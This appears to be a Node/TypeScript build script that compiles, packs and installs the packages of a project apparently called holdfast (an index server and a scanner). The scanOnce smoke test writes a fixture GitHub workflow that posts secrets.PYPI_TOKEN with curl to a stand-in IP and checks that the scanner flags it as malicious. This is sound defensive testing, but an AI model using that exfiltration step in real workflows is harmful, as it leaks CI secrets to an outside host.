import { copyFileSync, cpSync, existsSync, globSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { delimiter, dirname, join } from 'node:path'
import { runChild } from './child.ts'
import { packModules } from './pack-modules.ts'
import { publishOnce } from './publish-once.ts'

/**
 * Makes what people install. Node refuses TypeScript under node_modules, so each workspace is staged compiled in
 * `build/<package>/` with a package.json of its own, packed, and the tarballs are installed into an empty folder,
 * where the index is started and published to once.
 */
const root = join(import.meta.dirname, '..')
const build = join(root, 'build')

/** npm and the programs it starts run on our Node, and know nothing of the `npm run` we stand in. */
const environment: NodeJS.ProcessEnv = {
  ...Object.fromEntries(
    Object.entries(process.env).filter(([name]) => !/^npm_(?!config_)|^npm_config_(local_)?prefix$|^HOLDFAST_/.test(name)),
  ),
  PATH: [dirname(process.execPath), process.env.PATH].join(delimiter),
}

interface Workspace {
  readonly name: string
  readonly version: string
  readonly [field: string]: unknown
}

async function run(step: string, command: string, words: readonly string[], folder: string): Promise<string> {
  const ending = await runChild(command, words, { deadlineSeconds: 240, env: environment, folder })
  console.log(`${step.padEnd(26)} ${ending.code === 0 ? 'ok    ' : 'failed'} ${ending.seconds.toFixed(1)} s`)
  if (ending.code !== 0) throw new Error(`${step} ${ending.isLate ? 'was stopped after 240 s' : 'failed'}:\n${ending.output}`)
  return ending.output
}

/** Compiles `source` into `dist`, at the same depth, so that `../../migrations` means the same in both. */
async function compile(name: string, source: string, staged: string): Promise<void> {
  const options = {
    noEmit: false,
    noEmitOnError: true,
    rewriteRelativeImportExtensions: true,
    rootDir: source,
    outDir: join(staged, 'dist'),
    typeRoots: [join(root, 'node_modules/@types')],
  }
  const exclude = [`${source}/**/*.test.ts`, `${source}/web/assets`]
  const file = join(build, `tsconfig.${name}.json`)
  writeFileSync(file, JSON.stringify({ extends: '../tsconfig.json', compilerOptions: options, include: [source], exclude }))
  await run(`compile ${name}`, process.execPath, [join(root, 'node_modules/typescript/bin/tsc'), '-p', file], root)

  for (const path of globSync('**/*.js', { cwd: join(staged, 'dist') })) {
    const emitted = join(staged, 'dist', path)
    // The compiler follows imports only; workers are named by an address.
    writeFileSync(
      emitted,
      readFileSync(emitted, 'utf8').replaceAll(/(new URL\((['"])\.{1,2}\/[^'"]+)\.ts\2, import\.meta\.url\)/g, '$1.js$2, import.meta.url)'),
    )
  }
  const isCopied = (path: string) => !path.endsWith('.ts') || path.startsWith('web/assets/')
  for (const path of globSync('**/*.*', { cwd: source }).filter(isCopied)) {
    mkdirSync(dirname(join(staged, 'dist', path)), { recursive: true })
    cpSync(join(source, path), join(staged, 'dist', path), { recursive: true })
  }
}

async function stage(folder: string): Promise<{ workspace: Workspace; staged: string }> {
  const home = join(root, folder)
  const workspace = JSON.parse(readFileSync(join(home, 'package.json'), 'utf8')) as Workspace
  const staged = join(build, workspace.name)
  mkdirSync(staged, { recursive: true })
  const source = join(home, 'src')
  if (globSync('**/*.ts', { cwd: source }).length > 0) await compile(workspace.name, source, staged)
  if (folder === 'scanner') packScanner(join(staged, 'dist'))

  const kept = [
    'name',
    'version',
    'description',
    'type',
    'license',
    'engines',
    'bin',
    'exports',
    'dependencies',
    'optionalDependencies',
    'peerDependencies',
    'peerDependenciesMeta',
  ]
  const fields = Object.fromEntries(kept.filter((key) => workspace[key] !== undefined).map((key) => [key, workspace[key]]))
  const files = ['bin', 'dist', 'migrations', 'schema', 'grammars', 'README.md', 'LICENSE']
  writeFileSync(join(staged, 'package.json'), `${JSON.stringify({ ...fields, files }, undefined, 2)}\n`)
  for (const name of ['bin', 'migrations', 'schema'])
    if (existsSync(join(home, name))) cpSync(join(home, name), join(staged, name), { recursive: true })
  const readme = [join(home, 'README.md'), join(root, 'README.md')].find((path) => existsSync(path))
  if (readme !== undefined) copyFileSync(readme, join(staged, 'README.md'))
  copyFileSync(join(root, 'LICENSE'), join(staged, 'LICENSE'))
  if (folder === 'scanner') copyGrammars(staged)
  return { workspace, staged }
}

/** A scan of one file is over before Node has found 150 modules; the server starts once and may take its time. */
function packScanner(dist: string): void {
  const modules = new Map(globSync('**/*.js', { cwd: dist }).map((path) => [path, readFileSync(join(dist, path), 'utf8')]))
  const files = packModules(modules, ['main.js', 'threads/scan-thread.js'])
  for (const path of modules.keys()) if (!files.has(path)) rmSync(join(dist, path))
  for (const [path, text] of files) writeFileSync(join(dist, path), text)
}

/** Their packages would be built by whoever installs them; the compiled grammars need nobody's compiler. */
function copyGrammars(staged: string): void {
  mkdirSync(join(staged, 'grammars'))
  for (const name of ['tree-sitter-bash', 'tree-sitter-powershell']) {
    const home = join(root, 'node_modules', name)
    copyFileSync(join(home, `${name}.wasm`), join(staged, 'grammars', `${name}.wasm`))
    copyFileSync(join(home, 'LICENSE'), join(staged, 'grammars', `${name}.LICENSE`))
  }
}

/** The scanner in a folder of its own: it must not need the server, and must know a thief when it sees one. */
async function scanOnce(tarball: string): Promise<void> {
  const folder = mkdtempSync(join(tmpdir(), 'holdfast-build-scan-'))
  try {
    writeFileSync(join(folder, 'package.json'), '{ "private": true }\n')
    await run('install the scanner alone', 'npm', ['install', '--no-audit', '--no-fund', tarball], folder)
    if (existsSync(join(folder, 'node_modules/holdfast'))) throw new Error('The scanner brought the server along.')
    const workflows = join(folder, '.github/workflows')
    mkdirSync(workflows, { recursive: true })
    writeFileSync(
      join(workflows, 'security.yml'),
      'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "t=${{ secrets.PYPI_TOKEN }}" http://198.51.100.7/x\n',
    )
    const ending = await runChild(join(folder, 'node_modules/.bin/holdfast-scan'), [], { deadlineSeconds: 60, env: environment, folder })
    if (ending.code !== 12 || !ending.output.includes('PYPI_TOKEN'))
      throw new Error(`The scanner ended with ${ending.code} and not with 12 (malicious):\n${ending.output}`)
    console.log('one workflow judged         ok')
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

async function main(): Promise<void> {
  rmSync(build, { recursive: true, force: true })
  mkdirSync(build)
  const tarballs: string[] = []
  for (const folder of ['server', 'scanner']) {
    const { workspace, staged } = await stage(folder)
    await run(`pack ${workspace.name}`, 'npm', ['pack', '--silent', '--pack-destination', build], staged)
    tarballs.push(join(build, `${workspace.name}-${workspace.version}.tgz`))
  }

  const folder = mkdtempSync(join(tmpdir(), 'holdfast-build-'))
  try {
    writeFileSync(join(folder, 'package.json'), '{ "private": true }\n')
    await run('install into a new folder', 'npm', ['install', '--no-audit', '--no-fund', ...tarballs], folder)
    await publishOnce({ folder, holdfast: join(folder, 'node_modules/.bin/holdfast'), environment })
    console.log('publish and install once   ok')
    await scanOnce(tarballs[1] as string)
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
  for (const tarball of tarballs) console.log(tarball.slice(root.length + 1))
}

try {
  await main()
} catch (error) {
  console.error(error instanceof Error ? error.message : error)
  process.exitCode = 1
}
